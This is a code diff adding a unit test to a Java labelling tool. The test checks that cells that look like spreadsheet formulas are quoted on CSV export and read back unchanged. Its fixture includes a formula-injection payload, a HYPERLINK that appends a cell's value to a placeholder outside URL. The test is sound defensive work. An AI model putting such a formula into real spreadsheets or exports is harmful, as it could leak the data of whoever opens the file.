@@ -66,6 +66,26 @@ class LabelFileTest {
     }
 
     @Test
+    void aCellASpreadsheetWouldRunAsAFormulaIsQuotedInTheSheetAndReadBackAsItWas() throws IOException {
+        // a model's output a labeller's spreadsheet would run; a case id that starts like a formula
+        String output = "=HYPERLINK(\"https://example.invalid/?\"&A1,\"click\")";
+        LabelSheet sheet = new LabelSheet();
+        sheet.add(new LabelSheet.Result("qa", "questions", "-1", "sim_small", 0, "llm_judge", 1.0, true, "@once",
+                output, "+input", "Paris"));
+        String csv = sheet.render(LabelSheet.Format.CSV);
+        assertThat(csv).contains(",'-1,", "\"'=HYPERLINK(", ",'+input,", ",'@once,").doesNotContain(",=", ",\"=");
+
+        List<HumanLabel> labels = read("filled.csv", csv.replace(",,,\r\n", ",pass,,\r\n"), null);
+
+        assertThat(labels).hasSize(1);
+        assertThat(labels.get(0).caseId()).isEqualTo("-1");
+        assertThat(labels.get(0).outputDigest()).isEqualTo(OutputDigest.of(output));
+        assertThat(read("no-digest.csv", "eval,case,model,output,human_verdict\nqa,'-1,sim_small,\"'=1+1\",pass\n",
+                null).get(0).outputDigest()).as("the digest of the output as the model wrote it")
+                .isEqualTo(OutputDigest.of("=1+1"));
+    }
+
+    @Test
     void badRowsAreNamedByFileAndLine() throws IOException {
         assertThatThrownBy(() -> read("labels.jsonl", String.join("\n",
                 "{\"eval\": \"qa\", \"case\": \"a\", \"model\": \"m\", \"human_verdict\": \"yes\"}",
